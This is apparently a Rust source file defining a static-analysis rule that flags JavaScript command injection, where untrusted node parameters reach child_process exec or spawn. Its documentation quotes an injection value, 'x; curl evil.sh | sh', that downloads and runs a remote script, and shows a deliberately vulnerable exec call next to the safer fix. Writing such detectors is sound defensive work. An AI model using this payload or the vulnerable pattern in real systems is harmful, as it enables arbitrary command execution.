use portcullis_core::declare_rule;

declare_rule! {
/// ## What it does
/// Tracks untrusted data (node parameters, workflow items, `msg` properties, HTTP requests, parameters of exported library functions) into `child_process.exec`, `execSync`, `shelljs.exec` and friends (the command string), into the program name of `spawn`/`execFile`/`execa`, and into their argument array when a shell parses it (`{ shell: true }` or a shell path as the `shell` option, or `spawn('sh', ['-c', …])`). An argument array without a shell reaches the program unparsed and is not reported.
///
/// ## Why is this bad?
/// `exec` runs its argument through `/bin/sh`: a value such as `x; curl evil.sh | sh` runs arbitrary commands with the platform's privileges and credentials.
///
/// ## Example
/// ```js
/// const { exec } = require('child_process');
/// exec(`convert ${this.getNodeParameter('file', i)} out.png`);
/// ```
///
/// ## Use instead
/// ```js
/// const { execFile } = require('child_process');
/// execFile('convert', [file, 'out.png']);
/// ```
///
/// ## References
/// - CWE-78: Improper Neutralization of Special Elements used in an OS Command
/// - https://nodejs.org/api/child_process.html#child_processexeccommand-options-callback
    pub static COMMAND_INJECTION = {
        id: "js/command-injection",
        title: "Command injection",
        category: Code,
        severity: Critical,
        confidence: High,
        summary: "Untrusted data reaches an operating-system command.",
        cwe: [78],
        owasp: ["A03:2021"],
        signals: [],
        fixtures: [pos "crates/js/tests/fixtures/node-red/exec-node.js", neg "crates/js/tests/fixtures/safe/AcmeSafe.node.ts"],
    }
}

/// The finding message; `{source}` and `{sink}` are filled in per occurrence.
pub const MESSAGE: &str = "untrusted data from {source} reaches {sink}";

pub const REMEDIATION: &str = "Do not build shell commands from input. Use `execFile`/`spawn` with a fixed program and an argument array (no `shell: true`), and validate arguments against an allow-list.";
